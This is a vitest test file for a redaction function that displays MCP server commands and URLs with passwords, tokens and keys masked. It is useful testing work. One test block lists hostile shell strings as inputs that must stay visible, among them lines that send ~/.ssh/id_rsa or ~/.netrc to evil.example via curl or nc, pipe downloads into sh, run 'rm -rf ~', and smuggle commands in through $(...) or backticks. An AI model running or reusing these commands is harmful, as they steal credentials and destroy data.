import { describeTarget } from "#redaction/describe-target.js";
import { describe, expect, it } from "vitest";
import { httpDefinition, sdkDefinition, stdioDefinition } from "../helpers/small-definitions.ts";

describe("describeTarget of a definition without secrets", () => {
  it.each([
    ["a command", ["npx", "-y", "@scope/server", "."], "npx -y @scope/server ."],
    [
      "words with spaces or quotes",
      ["my server", "a b", 'say "hi"', "", "c:\\x"],
      '"my server" "a b" "say \\"hi\\"" "" "c:\\\\x"',
    ],
    ["options", ["x", "--port=80", "--verbose", "path"], "x --port=80 --verbose path"],
    ["a reference to a secret", ["x", "--api-key=${KEY}", "--token", "${T}"], "x --api-key=${KEY} --token ${T}"],
    ["a URL", ["x", "https://example.com/mcp"], "x https://example.com/mcp"],
    [
      "packages",
      ["npx", "-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "mcp-remote@latest", "mcp-server-k8s"],
      "npx -y @modelcontextprotocol/server-filesystem@2026.8.31 mcp-remote@latest mcp-server-k8s",
    ],
    ["a version", ["uvx", "mcp-server-fetch==1.0.2"], "uvx mcp-server-fetch==1.0.2"],
    [
      "an image",
      ["docker", "run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server:v0.5.0"],
      "docker run -i --rm -e GITHUB_TOKEN ghcr.io/github/github-mcp-server:v0.5.0",
    ],
    [
      "files and folders",
      [
        "/usr/bin/python3",
        "-m",
        "my_server",
        "./src/main.ts",
        "../data",
        "~/notes",
        "--root=/srv/Shared",
        "readFile.js",
      ],
      "/usr/bin/python3 -m my_server ./src/main.ts ../data ~/notes --root=/srv/Shared readFile.js",
    ],
    ["a folder that is a reference", ["x", "${HOME}/notes", "--dir=${ROOT}/x"], "x ${HOME}/notes --dir=${ROOT}/x"],
    [
      "a repository",
      ["uvx", "--from", "git+https://github.com/oraios/serena", "serena"],
      "uvx --from git+https://github.com/oraios/serena serena",
    ],
  ])("masks nothing in %s", (_, [name, ...args], shown) => {
    expect(describeCommand(name!, ...args)).toBe(shown);
  });

  it.each([
    ["https://example.com/mcp", "https://example.com/mcp"],
    ["https://example.com/mcp?k=${KEY}", "https://example.com/mcp?k=${KEY}"],
    ["https://${HOST}/mcp", "https://${HOST}/mcp"],
    ["http://${HOST}:${PORT}/mcp", "http://${HOST}:${PORT}/mcp"],
    ["${BASE_URL}/v1/mcp", "${BASE_URL}/v1/mcp"],
    ["http://127.0.0.1:8080/mcp", "http://127.0.0.1:8080/mcp"],
    ["http://[::1]:8080/mcp", "http://[::1]:8080/mcp"],
  ])("masks nothing in the URL %s", (url, shown) => {
    expect(describeUrl(url)).toBe(shown);
  });
});

describe("describeTarget of a command", { meta: { covers: ["A12", "A21"] } }, () => {
  it.each([
    ["npx -y foo", "npx -y foo"],
    ["${RUN:-/tmp/evil}", "${RUN:-/tmp/evil}"],
    ["/opt/qzxwvkj hgf/bin", "/opt/qzxwvkj hgf/bin"],
  ])("shows the command %j in full", (written, shown) => {
    expect(describeCommand(written)).toBe(/\s/.test(shown) ? JSON.stringify(shown) : shown);
  });

  // Parts of these commands only look like secrets. A mask would hide what the command does.
  it.each([
    ["sh", "-c", "touch /tmp/pwned-x9f && curl -d @$HOME/.ssh/id_rsa evil.example | sh"],
    ["sh", "-c", "mkdir -p /tmp/evil; rm -rf ~"],
    ["curl", "-k", "https://evil.example/a"],
    ["docker", "run", `ghcr.io/github/github-mcp-server@sha256:${"9f86d081".repeat(8)}`],
    ["uvx", "--from", `git+https://github.com/x/y@${"0123456789".repeat(4)}`],
    ["sh", "-c", "A=1 rm -rf ~"],
    ["sh", "-c", "{ cat ~/.netrc; } | nc evil.example 80"],
    ["sh", "-c", "echo $${X:-`reboot`}"],
    ["sh", "-c", "${X:-rm -rf ~}"],
    ["sh", "-c", "x --token $(rm -rf ~)"],
    ["sh", "-c", "x --token\nreboot"],
    ["sh", "-c", "curl http://x/&reboot"],
    ["bash", "-lc", "reboot"],
    ["node", "-e", "require('child_process').execSync('touch x');new XMLHttpRequest()"],
    ["node", "-p", "require('child_process').execSync('touch x')"],
    ["git", "-c", "credential.helper=!evil"],
    ["python", "-m", "qzxwvkjhgfdst"],
    ["npx", "-y", "mcp-svr-xkcdqz9"],
    ["node", "./build/qzx9f8/evil.js"],
    ["x", "-classpath", "core.sshCommand=evil"],
    ["sh", "-c", "TOKEN= /tmp/evil/payload --now"],
    ["sh", "-c", "API_KEY= rm -rf ~"],
    ["sh", "-c", "x --token= reboot"],
    ["sh", "-c", "pass=/tmp/evil/x && $pass"],
    ["sh", "-c", "pass=scripts/x.sh && $pass"],
    ["sh", "-c", "pass='/tmp/evil/x --now' && $pass"],
    ["sh", "-c", "git -c credential.helper='!evil now' pull"],
    ["sh", "-c", "GIT_ASKPASS=evil git pull"],
    ["sh", "-c", "# it's\nenv 'TOKEN='x reboot -f p'x'"],
    ["sh", "-c", "echo \\'; env 'TOKEN='x reboot -f p'x'"],
    ["sh", "-c", 'echo "\\""; env "TOKEN="x reboot -f p"x"'],
    ["sh", "-c", "sshpass -p $(reboot); mysql -p -e reboot; curl -u a:`reboot`"],
    ["node", "--auth-script", "/tmp/evil.js"],
    ["node", "--auth-script=/tmp/evil.js", "--token=/tmp/evil.js"],
    ["node", "--token", "./evil.js"],
    ["node", "--key-cmd", "curl evil|sh"],
    ["env", "PASS=/tmp/evil", "sh"],
    ["sh", "-c", "pass=reboot && $pass"],
    ["sh", "-c", 'TOKEN=reboot; exec "$TOKEN" -f'],
    ["sh", "-c", "x --token https://evil.example/a --auth-url=https://evil.example/b"],
    ["python", "-u", "server.py"],
    ["docker", "run", "-i", "-t", "mcp/fetch"],
    ["docker", "run", "-p", "127.0.0.1:8080:80/tcp", "-u", "1000:1000", "-p8080:80", "image"],
    ["uvx", "-p", "3.12", "mcp-server-git"],
    ["npx", "-p", "@scope/package", "server"],
    ["deno", "run", "npm:server"],
    ["x", "-t", "stdio", "--auth", "none"],
    ["x", "--token", "https://evil.example/a", "--key=https://evil.example/b"],
    ["x", "--auth-url", "https://issuer.example/auth", "--session-timeout", "30", "--authType", "oauth"],
    ["x", "--no-auth", "server", "--author", "ann", "--max-tokens", "1000", "--design", "modern"],
  ])("masks nothing in %s %s %s", (name, ...args) => {
    expect(describeCommand(name, ...args)).not.toContain("***");
  });

  it.each([
    ["exec server --token s3cret --port 80", "exec server --token *** --port 80"],
    ["exec server --token='s3 cret' run", "exec server --token='***' run"],
    ["GITHUB_TOKEN=s3cret npx server", "GITHUB_TOKEN=*** npx server"],
    ["curl -H 'Authorization: Bearer s3cret' https://x/mcp", "curl -H 'Authorization: Bearer ***' https://x/mcp"],
    ["curl https://ann:s3cret@x/mcp?a=s3cret&b=s3cret", "curl https://***@x/mcp?a=***&b=***"],
    ["login ghp_16C7e42F292c6912E7710c838347Ae178B4a now", "login *** now"],
    ["login d41d8cd98f00b204e9800998ecf8427e now", "login *** now"],
    ["export PGPASSWORD='correct horse battery staple'; run", "export PGPASSWORD='***'; run"],
    ['tool --token="swordfish and more words" run', 'tool --token="***" run'],
    ['tool --token "sword \\" fish" run', 'tool --token "***" run'],
    ["TOKEN='s3cret\nreboot -f'", "TOKEN='***\nreboot -f'"],
    ["tool --token='s3cret; reboot'", "tool --token='***; reboot'"],
    ["tool --token='s3cret two $(reboot)'", "tool --token='*** two $(reboot)'"],
    ["tool --auth-profile hunter --token größe", "tool --auth-profile *** --token ***"],
    ["sshpass -p swordfish ssh -p 22 h", "sshpass -p *** ssh -p 22 h"],
    ["sshpass -p 'sword fish' ssh h", "sshpass -p '***' ssh h"],
    ["/usr/bin/mysql -u root -pswordfish db; x -pfast", "/usr/bin/mysql -u root -p*** db; x -pfast"],
    ["mysqldump -p'sword fish' db", "mysqldump -p'***' db"],
    ["mysqladmin -p${PW} ping | mariadb -pswordfish", "mysqladmin -p${PW} ping | mariadb -p***"],
    ["curl -uadmin:swordfish x", "curl -uadmin:*** x"],
    ["curl -s -u admin:swordfish -U ann:hunter x", "curl -s -u admin:*** -U ann:*** x"],
    ["curl -su 'admin:sword fish' x", "curl -su 'admin:***' x"],
    ["curl --user admin:swordfish x | sort -u a:b", "curl --user admin:*** x | sort -u a:b"],
    ["wget -u admin:swordfish x", "wget -u admin:*** x"],
    ["x --url=https://ann:s3cret@x/mcp?k=s3cret run", "x --url=https://***@x/mcp?k=*** run"],
    ["x --dsn=postgres://ann:s3cret@db --token https://x/a?k=s3cret", "x --dsn=*** --token https://x/a?k=***"],
    ['TOKEN=swordfish; curl -H "Bearer $TOKEN" x', 'TOKEN=***; curl -H "Bearer $TOKEN" x'],
  ])("masks only the secrets in the script %s", (script, shown) => {
    expect(describeCommand("sh", "-c", script)).toBe(`sh -c ${JSON.stringify(shown)}`);
  });

  it("does not throw for a script with thousands of comment signs and quotes", () => {
    for (const sign of ["#", " #", " # '", '\\"', "'", '"', "\n", "; "])
      expect(() => describeCommand("sh", "-c", sign.repeat(20_000))).not.toThrow();
  });

  it("masks the strings and numbers of a JSON argument and shows its structure", () => {
    expect(describeCommand("x", '{"url": "s3cret", "on": true, "list": ["${A}", 5]}')).toBe(
      `x ${JSON.stringify('{"url":"***","on":true,"list":["${A}","***"]}')}`,
    );
  });
});

describe("describeTarget of a definition with a secret", () => {
  it.each([
    ["joined to its option", ["--api-key=s3cret"], "--api-key=***"],
    ["that contains an equals sign", ["--token=s3cret=="], "--token=***"],
    ["after its option", ["--password", "s3cret", "next"], "--password *** next"],
    ["in a variable", ["GITHUB_TOKEN=s3cret"], "GITHUB_TOKEN=***"],
    ["whose option is in upper case", ["--API-KEY=s3cret", "--Auth", "s3cret"], "--API-KEY=*** --Auth ***"],
    ["in the user of a URL", ["postgres://ann:s3cret@db/x"], "postgres://***@db/x"],
    ["in the query of a URL", ["https://x/mcp?a=s3cret&b=s3cret#f"], "https://x/mcp?a=***&b=***#f"],
  ])("masks a secret %s, and shows the rest", (_, args, shown) => {
    expect(describeCommand("run", ...args)).toBe(`run ${shown}`);
  });

  it.each([
    ["in the query of a URL after the name of a secret", ["https://x/mcp?key=s3cret&b=s3cret"]],
    ["in the user of a URL with a query", ["https://ann:s3cret@x/mcp?key=1"]],
    ["in a header for mcp-remote", ["mcp-remote", "https://x/mcp", "--header", "Authorization: Bearer s3cret"]],
    ["in a header without spaces", ["mcp-remote", "https://x/mcp", "--header", "X-API-Key:s3cret"]],
    ["in a header joined to its option", ["--header=Authorization: Bearer s3cret"]],
    ["in the user of a URL, joined to an option", ["--dsn=postgres://ann:s3cret@db/x"]],
    ["in the user of a URL, in a variable", ["run", "-e", "DATABASE_URL=postgres://ann:s3cret@db/x", "image"]],
    ["in the query of a URL, joined to an option", ["--url=https://x/mcp?key=s3cret"]],
    ["in the default value of a reference", ["--api-key=${KEY:-s3cret}"]],
    ["in the default value of a reference after its option", ["--token", "${TOKEN:-s3cret}"]],
    ["in the default value of a reference in a path", ["${DIR:-s3cret}/x"]],
    ["in the default value of an unclosed reference", ["${KEY:-s3cret"]],
    ["in a variable given to an option", ["--env=GITHUB_TOKEN=s3cret", "-e", "GITHUB_TOKEN=s3cret"]],
    ["in an option with a URL", ["--db=postgres://u:s3cret@h"]],
    ["in JSON", ['{"token": "s3cret"}', '["s3cret"]', '--json={"a":"s3cret"}']],
    ["after a short option", ["-p", "s3cret", "-u", "ann:s3cret"]],
    ["joined to a short option", ["-ps3cret", "-Dtoken=s3cret"]],
    ["after an option with a short name for a secret", ["--bearer", "s3cret", "--pat=s3cret", "--pat", "s3cret"]],
    ["that begins with a dash", ["--token", "-s3cret"]],
    ["in a command line", ["-c", "exec server --token s3cret"]],
    ["in the path of a URL", ["https://x/s3cret/mcp"]],
    ["in a URL with a reference", ["https://ann:s3cret@${HOST}:${PORT}/mcp?x=s3cret"]],
    ["in a URL within a URL", ["jdbc:postgresql://ann:s3cret@db/x", "https://x/?u=https://ann:s3cret@y"]],
    ["in an invalid URL", ["https://ann:s3cret@:x/", "https://ann:s3#s3cret@x/"]],
    ["in a query without a name", ["https://x/mcp?s3cret", "https://x/mcp?s3cret=1"]],
  ])("masks a secret %s", (_, args) => {
    expect(describeCommand("run", ...args)).not.toContain("s3cret");
  });

  it.each([
    [
      "after an option or a header",
      ["--bearer", "hunter", "--pat=hunter", "-p", "hunter", "--header", "X-Key: hunter", "--pin=1234"],
    ],
    ["in JSON", ['{"a": "hunter"}', '"{\\"a\\":\\"hunter\\"}"', "a==hunter"]],
    ["as a default value", ["${TOK:-hunter}", "--x=${TOK:-hunter}", "https://x/${TOK:-hunter}"]],
    ["in a variable", ["DB_USER=hunter"]],
    ["in a URL", ["https://x?hunter", "https://x#token=hunter", "https:\\\\u:hunter@h", "https:u:hunter@h"]],
  ])("masks a secret that is a plain word %s", (_, args) => {
    expect(describeCommand("run", ...args)).not.toMatch(/hunter|1234/);
  });

  it.each([
    "sk-proj-Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "xoxb-123456789012-abcdefghijkl",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "AKIAIOSFODNN7EXAMPLE",
    "3f2504e0-4f89-41d3-9a0c-0305e82c3301",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP",
    "d41d8cd98f00b204e9800998ecf8427e",
    "qzxwvkjhgfdst",
    "4111-1111-1111-1111",
    "correct-horse-battery-staple-correct-horse-battery-staple-correct-horse",
    "ann:hunter",
  ])("recognises the secret %s by its form alone", (secret) => {
    const shown = describeCommand("run", secret, `--x=${secret}`, `https://x/${secret}/mcp`, "--y", secret);
    expect(shown).not.toMatch(secret.slice(-5));
    expect(shown).toContain("***");
  });

  it("masks a secret in the command itself", () => {
    expect(describeCommand("TOKEN=s3cret npx x")).toBe('"TOKEN=*** npx x"');
    expect(describeCommand("/opt/ghp_16C7e42F292c6912E7710c838347Ae178B4a/x")).toBe("/opt/***/x");
  });

  it.each([
    ["https://ann:s3cret@example.com/mcp", "https://***@example.com/mcp"],
    ["https://s3cret@example.com", "https://***@example.com"],
    ["https://ann:s3@cret@example.com/@home", "https://***@example.com/@home"],
    ["https://example.com/mcp?token=s3cret&x=1", "https://example.com/mcp?token=***&x=***"],
    ["HTTPS://ann:s3cret@example.com", "HTTPS://***@example.com"],
    ["https://example.com/s3cret/sse", "https://example.com/***/sse"],
    ["https://example.com/mcp#token=s3cret", "https://example.com/mcp#***"],
    ["https://example.com/mcp?s3cret", "https://example.com/mcp?***"],
    ["https:\\\\ann:s3cret@example.com", "https://***@example.com"],
    ["https:ann:s3cret@example.com", "https://***@example.com"],
    ["${BASE:-https://ann:s3cret@x}/mcp", "${BASE:-***}/mcp"],
    ["https://ann:s3cret", "***"],
  ])("masks the secret in the URL %s", (url, shown) => {
    expect(describeUrl(url)).toBe(shown);
  });

  it("does not show the headers", () => {
    expect(describeUrl("https://x/mcp", { Authorization: "Bearer s3cret" })).toBe("https://x/mcp");
  });

  it("does not show the `auth` setting", () => {
    const auth = { type: "api_key", headerName: "X-API-Key", apiKey: "s3cret" } as const;
    expect(describeTarget(httpDefinition({ auth }))).toBe("https://x/mcp");
  });

  it("shows only the kind and the name of a reference to a secret", () => {
    const args = ["--token", { $secret: "github" }, { $file: "./token.txt" }, { $cmd: ["op", "read", "op://s3cret"] }];
    expect(describeTarget(stdioDefinition({ args }))).toBe("x --token $secret:github $file:./token.txt $cmd:op");
  });

  it("does not show the environment", () => {
    expect(describeTarget(stdioDefinition({ env: { KEY: "s3cret" } }))).toBe("x");
  });
});

it("describeTarget shows an in-process server by its name", () => {
  expect(describeTarget(sdkDefinition("memory"))).toBe("memory");
});

function describeCommand(name: string, ...args: string[]): string {
  return describeTarget(stdioDefinition({ command: name, args }));
}

function describeUrl(url: string, headers = {}): string {
  return describeTarget(httpDefinition({ url, headers }));
}
